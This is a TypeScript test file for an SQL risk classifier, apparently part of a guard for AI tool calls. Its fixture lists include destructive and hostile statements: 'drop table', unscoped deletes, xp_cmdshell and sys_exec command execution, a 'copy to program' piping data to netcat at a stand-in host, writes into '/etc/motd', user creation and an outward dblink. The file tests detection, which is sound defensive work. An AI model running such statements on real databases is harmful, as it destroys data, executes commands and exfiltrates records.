import { expect, test } from 'vitest'
import { Found } from '../../../../src/guard/act/found/found.ts'
import { actOf, describeTool, loadSql } from '../../../../src/guard/act/index.ts'
import { readSql } from '../../../../src/guard/act/sql/index.ts'
import { statementsOf } from '../../../../src/guard/act/sql/words.ts'

const ground = { roots: ['/work/proj'] }
const read = (text: string, kept: 'own' | 'shared' = 'own') => {
  const found = new Found('sql', 'sql')
  readSql(text, found, kept, ground)
  return found
}

const lines: Record<string, string[]> = {
  look: [
    'select 1',
    'SELECT a FROM t WHERE b = 1 -- drop table t',
    "select 'drop table t' from t",
    'with a as (select 1) select * from a',
    'explain select 1',
    'pragma table_info(t)',
    'show tables',
  ],
  own: [
    'insert into t values (1)',
    'update t set a = 1 where id = 2',
    'delete from t where id in (1, 2, 3)',
    'create table t (a int)',
    'replace into t values (1)',
    'insert into t(a) values (1) on conflict(a) do update set a = 2',
    'select 1; insert into t values (1)',
    'alter table t add column b int',
  ],
  irreversible: [
    'drop table t',
    'delete from t',
    'delete from t where 1 = 1',
    'delete from t where true',
    'update t set a = 1',
    'truncate table t',
    'select 1; drop table t',
    'with d as (delete from t returning *) select * from d',
    'alter table t drop column a',
    "select * from t into outfile '/etc/motd'",
  ],
  execution: [
    "copy t to program 'nc host.example 1'",
    "select load_extension('x')",
    "exec xp_cmdshell 'dir'",
    'create function f() returns int as $$ x $$ language plpython3u',
    'do $$ begin perform 1; end $$',
    'install httpfs; load httpfs',
    'frobnicate all',
    "select/*!50000 sys_exec('id') */",
  ],
  persistence: ['grant all on t to bob', 'create user bob', 'create trigger x after insert on t execute function f()'],
  outward: ["select * from dblink('host=host.example', 'select 1') as t(a int)"],
}

test.each([false, true])('statements do what they say; parser loaded: %s', async (loaded) => {
  if (loaded) await loadSql()
  for (const [sink, statements] of Object.entries(lines))
    for (const each of statements) expect([each, read(each).sink]).toEqual([each, sink])
})

test('others’ databases are shared; rows and tables are counted and named', async () => {
  await loadSql()
  expect(read('insert into t values (1)', 'shared').sink).toBe('shared')
  expect(read('delete from t where id in (1, 2, 3)').items).toBe(3)
  expect(read('delete from t').items).toBeGreaterThanOrEqual(100)
  expect(read('drop table a, b').parts.map((part) => part.text)).toEqual(['a', 'b'])
})

test('a database tool is what its statement is', async () => {
  await loadSql()
  const sqlite = describeTool({
    name: 'write_query',
    description: 'Execute an INSERT or DELETE on the SQLite database',
    inputSchema: { properties: { query: { type: 'string' } } },
  })
  expect(actOf(sqlite, { query: 'insert into t values (1)' }, ground)).toMatchObject({ sink: 'own', action: 'write' })
  expect(actOf(sqlite, { query: 'drop table t' }, ground)).toMatchObject({ sink: 'irreversible', action: 'delete' })
  const others = describeTool({
    name: 'execute_sql',
    description: 'Runs SQL on PostgreSQL',
    inputSchema: { properties: { sql: { type: 'string' } } },
  })
  expect(actOf(others, { sql: 'select 1' }, ground)).toMatchObject({ sink: 'look' })
  expect(actOf(others, { sql: 'insert into t values (1)' }, ground)).toMatchObject({ sink: 'shared' })
  const reader = describeTool({
    name: 'read_query',
    description: 'Reads the SQLite database',
    inputSchema: { properties: { query: { type: 'string' } } },
  })
  expect(actOf(reader, { query: 'delete from t' }, ground)).toMatchObject({ sink: 'irreversible' })
})

test('words are split whatever the text', () => {
  for (const odd of ['', ';;;', "'", '/*', '$$', '"', '`', 'a'.repeat(300_000)])
    expect(statementsOf(odd).length).toBeLessThanOrEqual(1)
})
